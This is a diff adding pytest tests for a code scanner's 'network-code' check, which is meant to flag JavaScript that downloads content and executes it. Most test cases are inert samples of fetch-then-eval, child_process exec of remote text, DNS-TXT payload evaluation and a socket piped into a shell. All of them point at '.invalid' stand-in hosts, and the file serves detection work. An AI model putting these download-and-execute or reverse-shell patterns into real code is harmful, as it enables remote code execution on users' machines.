@@ -1,0 +1,116 @@
+"""Answers of the network that are run. Payloads are inert: hosts end in .invalid."""
+
+import pytest
+
+from tests.flows import findings_of, worst
+from vscan.model import Severity
+from vscan.providers.offline.checks.network_code import CHECK
+
+RULE = "network-code"
+START = """
+const https = require("https"), vm = require("vm"), cp = require("child_process");
+const url = "https://a.invalid/s";
+"""
+
+
+def fault(reason: str) -> pytest.MarkDecorator:
+    return pytest.mark.xfail(strict=True, reason=reason)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "fetch(url).then((r) => r.text()).then((t) => eval(t));",
+        pytest.param(
+            "fetch(url).then((r) => r.text()).then(eval);",
+            marks=fault("a callback that is eval itself"),
+        ),
+        "fetch(url).then((r) => r.json()).then((j) => new Function(j.code)());",
+        "async function f() { const r = await fetch(url); (0, eval)(await r.text()); }",
+        "async function f() { const { data } = await require('axios').get(url); eval(data); }",
+        """https.get(url, (r) => { let s = ""; r.on("data", (d) => (s += d));
+           r.on("end", () => vm.runInThisContext(s)); });""",
+        """https.get(url, (r) => { const l = []; r.on("data", (d) => l.push(d));
+           r.on("end", () => new vm.Script(Buffer.concat(l).toString()).runInThisContext()); });""",
+        """https.get(url, (r) => { let s = ""; r.on("data", (d) => (s += d));
+           r.on("end", () => module._compile(Buffer.from(s, "hex").toString(), "a.js")); });""",
+        pytest.param(
+            """const get = (u) => new Promise((done) => https.get(u, (r) => { let s = "";
+           r.on("data", (d) => (s += d)); r.on("end", () => done(s)); }));
+           const run = globalThis["ev" + "al"]; get(url).then((t) => run(t));""",
+            marks=fault("an alias of globalThis with a key that is put together"),
+        ),
+        "const w = new WebSocket('wss://a.invalid'); w.onmessage = (m) => eval(m.data);",
+        "const w = new WebSocket('wss://a.invalid'); w.on('message', (m) => cp.exec(`${m}`));",
+        "require('dns').resolveTxt('a.invalid', (e, r) => eval(atob(r.flat().join(''))));",
+        pytest.param(
+            "fetch(url).then((r) => r.text()).then((t) => setTimeout(t, 10));",
+            marks=fault("a timer whose text has the name of an unknown call"),
+        ),
+        "fetch(url).then((r) => r.text()).then((t) => cp.exec(t));",
+        "fetch(url).then((r) => r.text()).then((t) => cp.spawn('sh', ['-c', t]));",
+        "fetch(url).then((r) => r.text()).then((t) => cp.spawnSync(process.execPath, ['-e', t]));",
+        "fetch(url).then((r) => r.text()).then((t) => import('data:text/javascript,' + t));",
+        """class L { async load() { this.code = await (await fetch(url)).text(); }
+           run() { return Function("require", this.code)(require); } }""",
+        """const sh = cp.spawn("sh"); const s = require("net").connect(1, "a.invalid");
+           s.pipe(sh.stdin);""",
+        """const f = () => __awaiter(this, void 0, void 0, function* () {
+           const r = yield fetch(url); eval(yield r.text()); });""",
+        (
+            "fetch(url).then((r) => r.text()).then((t) => require('vscode').window"
+            ".createTerminal().sendText(t));"
+        ),
+    ],
+)
+def test_an_answer_that_is_run_is_found(source: str) -> None:
+    assert worst(findings_of(CHECK, START + source), RULE) >= Severity.HIGH
+
+
+def test_what_a_page_sends_is_found_when_it_is_run() -> None:
+    source = "view.webview.onDidReceiveMessage((m) => eval(m.code));"
+    assert worst(findings_of(CHECK, source), RULE) is Severity.HIGH
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "fetch(url).then((r) => r.text()).then((t) => show(t));",
+        "fetch(url).then((r) => r.json()).then((j) => JSON.parse(j.text));",
+        "eval('1 + 1'); fetch(url);",
+        "function eval2(t) { return t; } fetch(url).then((r) => r.text()).then(eval2);",
+        "const eval = (t) => t.length; fetch(url).then((r) => r.text()).then((t) => eval(t));",
+        "fetch(url).then((r) => r.text()).then((t) => cp.execFile('git', ['commit', '-m', t]));",
+        "fetch(url).then(() => cp.exec('git status'));",
+        "fetch(url).then((r) => setTimeout(() => show(r), 10));",
+        "setTimeout(done, 10, 'x'); fetch(url).then((r) => setTimeout(show, 10, r));",
+        "fetch(url).then((r) => r.text()).then((t) => new RegExp(t).exec('x'));",
+        "fetch(url).then((r) => { if (r.status === 200) eval('ready()'); });",
+        "new Function('return this')(); fetch(url).then((r) => r.text());",
+        "vm.runInNewContext(require('fs').readFileSync(file, 'utf8')); fetch(url);",
+        "// fetch(url).then((r) => r.text()).then(eval);",
+        "show('fetch(url).then((r) => r.text()).then(eval)');",
+    ],
+)
+def test_a_near_miss_is_not_found(source: str) -> None:
+    assert worst(findings_of(CHECK, START + source), RULE) < Severity.MEDIUM
+
+
+def test_the_message_has_the_source_and_the_finding_the_line_of_the_sink() -> None:
+    source = """\
+async function load() {
+  const answer = await fetch('https://a.invalid/s');
+  const text = await answer.text();
+  eval(text);
+}
+"""
+    (finding,) = findings_of(CHECK, source)
+    assert "fetch https://a.invalid/s (line 2)" in finding.message
+    assert (finding.line, finding.offset) == (4, source.index("eval"))
+    assert finding.evidence == "eval(text)"
+
+
+def test_a_program_in_a_text_is_examined_too() -> None:
+    source = 'const a = 1;\nnew Function("fetch(u).then((r) => r.text()).then((t) => eval(t))")();'
+    (finding,) = findings_of(CHECK, source)
+    assert finding.line == 2
